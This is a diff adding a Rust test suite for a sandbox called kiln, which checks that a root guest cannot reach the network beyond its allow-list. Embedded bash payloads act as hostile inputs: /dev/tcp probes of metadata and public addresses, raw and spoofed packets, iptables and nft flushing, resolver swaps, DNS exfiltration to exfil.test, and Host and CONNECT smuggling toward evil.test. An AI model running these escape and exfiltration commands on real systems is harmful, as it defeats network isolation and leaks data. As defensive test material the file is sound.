@@ -1,0 +1,204 @@
+//! A root guest that wants out, against the whole of kiln: real machines, and an internet of the test's own that writes down whatever
+//! comes to it. Two network namespaces with a cable between them: kiln in one; in the other every address there is, with a hostile
+//! name server and servers that answer on the usual ports.
+
+mod internet;
+
+use std::collections::BTreeSet;
+use std::process::{Command, Stdio};
+
+use crate::annex::Annex;
+use crate::support::{Said, path, said};
+
+use internet::Internet;
+
+/// Tries that need no name. Each prints what became of it; whatever leaves the machine is counted outside.
+const NAMELESS: &str = r#"
+tcp() { (timeout 2 bash -c "exec 3<>/dev/tcp/$1/$2 && head -c 5 <&3" 2>/dev/null | grep -q hello && echo "tcp $1:$2 REACHED") || true; }
+tcp 11.1.0.10 80; tcp 11.1.0.10 443; tcp 8.8.8.8 53; tcp 169.254.169.254 80; tcp 10.0.0.1 22; tcp 198.18.0.2 80; tcp 198.19.255.255 443
+tcp 2606:4700:4700::1111 443; tcp fe80::1 80; tcp ::ffff:11.1.0.10 80; tcp 64:ff9b::b01:a 80
+# UDP, QUIC's port, ICMP, packets with another's source address, ARP and raw frames on every card there is.
+perl -MSocket -e '
+  socket(my $u, PF_INET, SOCK_DGRAM, 17);
+  for my $to (["8.8.8.8", 53], ["11.1.0.10", 443], ["11.1.0.10", 123], ["255.255.255.255", 67], ["224.0.0.251", 5353]) {
+    setsockopt($u, SOL_SOCKET, SO_BROADCAST, 1);
+    send($u, "x" x 400, 0, sockaddr_in($to->[1], inet_aton($to->[0])));
+  }
+  socket(my $i, PF_INET, SOCK_RAW, 1);
+  send($i, pack("C2n3", 8, 0, 0xf7ff, 0, 0), 0, sockaddr_in(0, inet_aton("11.1.0.10")));
+  socket(my $r, PF_INET, SOCK_RAW, 255);
+  my $ip = pack("C2n3C2na4a4", 0x45, 0, 28, 1, 0, 64, 17, 0, inet_aton("11.0.0.9"), inet_aton("11.1.0.10")) . pack("n4", 5, 443, 8, 0);
+  send($r, $ip, 0, sockaddr_in(0, inet_aton("11.1.0.10")));
+  for my $index (1 .. 8) {
+    socket(my $p, 17, SOCK_RAW, 0x0300);
+    my $frame = "\xff" x 6 . "\x02" x 6 . "\x08\x06" . "\0" x 28;
+    send($p, $frame, 0, pack("SnlSCCa8", 17, 0x0300, $index, 1, 0, 6, "\xff" x 8));
+  }'
+# Its own addresses, routes, cards, filters and resolver instead of those it was given.
+ip addr add 11.0.0.2/8 dev lo; ip route replace default dev lo; ip link add up0 type dummy; ip link set up0 up; ip addr add 10.9.9.9/8 dev up0
+ip route replace default via 10.0.0.1 dev up0; nft flush ruleset; iptables -F; ip rule flush; ip rule add from all lookup main
+tcp 11.1.0.10 80; tcp 11.1.0.10 443
+mount -t tmpfs none /mnt; for at in 8.8.8.8 11.0.0.1 198.18.0.1; do
+  echo "nameserver $at" > /mnt/resolv.conf; mount --bind /mnt/resolv.conf /etc/resolv.conf || cp /mnt/resolv.conf /etc/resolv.conf
+  timeout 2 getent ahosts "$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').exfil.test" && echo "dns $at ANSWERED"
+  timeout 2 getent ahosts good.test && echo "dns $at ANSWERED"
+done
+# A namespace of its own changes nothing.
+unshare --net sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c "exec 3<>/dev/tcp/11.1.0.10/80"' 2>/dev/null && echo "netns REACHED"
+for module in virtio_net e1000 tun tap veth; do modprobe "$module" 2>/dev/null; done
+ls /sys/class/net | grep -vxE 'lo|up0|dummy0' | sed 's/$/ CARD/'
+echo over
+"#;
+
+/// Tries with names, of which the policy allows some.
+const NAMED: &str = r#"
+# What a server says first, after sending something.
+talk() { timeout 10 bash -c 'exec 3<>"/dev/tcp/$1/$2" && printf "%b" "$3" >&3 && timeout 5 head -c 5 <&3' bash "$1" "$2" "$3" 2>/dev/null | tr -d '\n'; }
+try() { echo "$1:$2 $(talk "$1" "$2" "${3:-x}")"; }
+try good.test 8080
+try good.test 22
+try x.good.test 8080
+try secret-in-a-label.good.test 8080
+try good.test.evil.test 8080
+try rebind.test 8080
+try rebind.test 8080
+try mixed.test 8080
+for name in inside meta own mapped translated chain loop; do try $name.test 8080; done
+try web.test 80 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
+try web.test 80 'CONNECT evil.test:443 HTTP/1.1\r\nHost: web.test\r\n\r\n'
+try web.test 80 'GET http://evil.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n'
+try web.test 443 'not a TLS client hello'
+try web.test 80 'GET / HTTP/1.1\r\nHost: web.test\r\n\r\n'
+echo over
+"#;
+
+/// kiln in the namespace of this world, with its resolver.
+fn run(world: &Internet, annex: &Annex, args: &[&str]) -> Said {
+    let mut command = Command::new("nsenter");
+    let net = format!("--net=/run/netns/{}", world.near());
+    command
+        .args([&net, "--", "unshare", "--mount", "--propagation", "private"])
+        .args([
+            "sh",
+            "-euc",
+            r#"mount --bind "$0" /etc/resolv.conf; exec "$@""#,
+        ])
+        .arg(world.resolver())
+        .arg(path(&annex.program))
+        .args(args)
+        .env("KILN_HOME", &annex.home)
+        .env("NO_COLOR", "1")
+        .stdin(Stdio::null());
+    said(command)
+}
+
+#[test]
+fn no_packet_of_a_root_guest_leaves_without_a_name() {
+    let Some(annex) = Annex::open() else { return };
+    let Some(world) = Internet::open(1) else {
+        return;
+    };
+    // So that nothing of kiln's own start is counted.
+    run(&world, &annex, &["run", "--", "true"]).exits(0);
+    let before = world.packets();
+    let said = run(&world, &annex, &["run", "--", "bash", "-c", NAMELESS]).exits(0);
+    assert_eq!(said.out, "over\n", "{said:?}");
+    assert_eq!(world.packets(), before, "{:?}", world.seen());
+    let allowed = [
+        "run",
+        "--allow",
+        "good.test:8080/raw",
+        "--",
+        "bash",
+        "-c",
+        NAMELESS,
+    ];
+    let said = run(&world, &annex, &allowed).exits(0);
+    let tried = said
+        .out
+        .lines()
+        .filter(|line| line.contains("REACHED") || line.contains("CARD"));
+    assert_eq!(tried.count(), 0, "{said:?}");
+    let seen = world.seen();
+    assert!(seen.opened.is_empty() && seen.sent.is_empty(), "{seen:?}");
+    assert!(
+        !seen.asked.iter().any(|name| name.contains("exfil")),
+        "{seen:?}"
+    );
+    annex.is_clear();
+}
+
+#[test]
+fn names_lead_only_where_the_policy_and_the_floor_let_them() {
+    let Some(annex) = Annex::open() else { return };
+    let Some(world) = Internet::open(2) else {
+        return;
+    };
+    let mut args = vec!["run"];
+    let raw = [
+        "good",
+        "rebind",
+        "mixed",
+        "inside",
+        "meta",
+        "own",
+        "mapped",
+        "translated",
+        "chain",
+        "loop",
+    ];
+    let raw = raw.map(|name| format!("{name}.test:8080/raw"));
+    for rule in raw.iter().map(String::as_str).chain(["web.test:80,443"]) {
+        args.extend(["--allow", rule]);
+    }
+    args.extend(["--", "bash", "-c", NAMED]);
+    let said = run(&world, &annex, &args).exits(0);
+    // Servers here speak first, so that web.test's greets whoever was let through to it, whatever was sent there.
+    let greeted = |line: &&str| line.ends_with(" hello") && !line.starts_with("web.test:");
+    let reached: Vec<&str> = said.out.lines().filter(greeted).collect();
+    assert_eq!(
+        reached,
+        [
+            "good.test:8080 hello",
+            "rebind.test:8080 hello",
+            "mixed.test:8080 hello"
+        ],
+        "{said:?}"
+    );
+    let seen = world.seen();
+    // Names that no rule has were asked nowhere: a label is no tunnel.
+    let allowed = |name: &String| {
+        name == "ipv4only.arpa"
+            || raw.iter().any(|rule| rule.starts_with(&format!("{name}:")))
+            || name == "web.test"
+    };
+    assert!(seen.asked.iter().all(allowed), "{seen:?}");
+    // Only addresses that the first answers gave and the floor lets pass, and not a byte for another host.
+    let opened: BTreeSet<&str> = seen.opened.iter().map(String::as_str).collect();
+    let may = [
+        "11.1.0.10:8080",
+        "11.1.0.11:8080",
+        "11.1.0.12:8080",
+        "11.1.0.13:80",
+        "11.1.0.13:443",
+    ];
+    assert!(opened.is_subset(&may.into()), "{opened:?}");
+    let asked = "GET / HTTP/1.1\r\nHost: web.test\r\n\r\n";
+    let web: Vec<&String> = seen.sent.iter().filter(|text| *text != "x").collect();
+    assert_eq!(web, [asked], "{seen:?}");
+    let told = annex.run(&["job", "egress", "--json"]).exits(0).out;
+    for name in [
+        "x.good.test",
+        "inside.test",
+        "own.test",
+        "meta.test",
+        "chain.test",
+    ] {
+        let row = "\"event\":\"refused\"";
+        let found = told
+            .lines()
+            .any(|line| line.contains(row) && line.contains(&format!("\"{name}\"")));
+        assert!(found, "{name}: {told}");
+    }
+    annex.is_clear();
+}
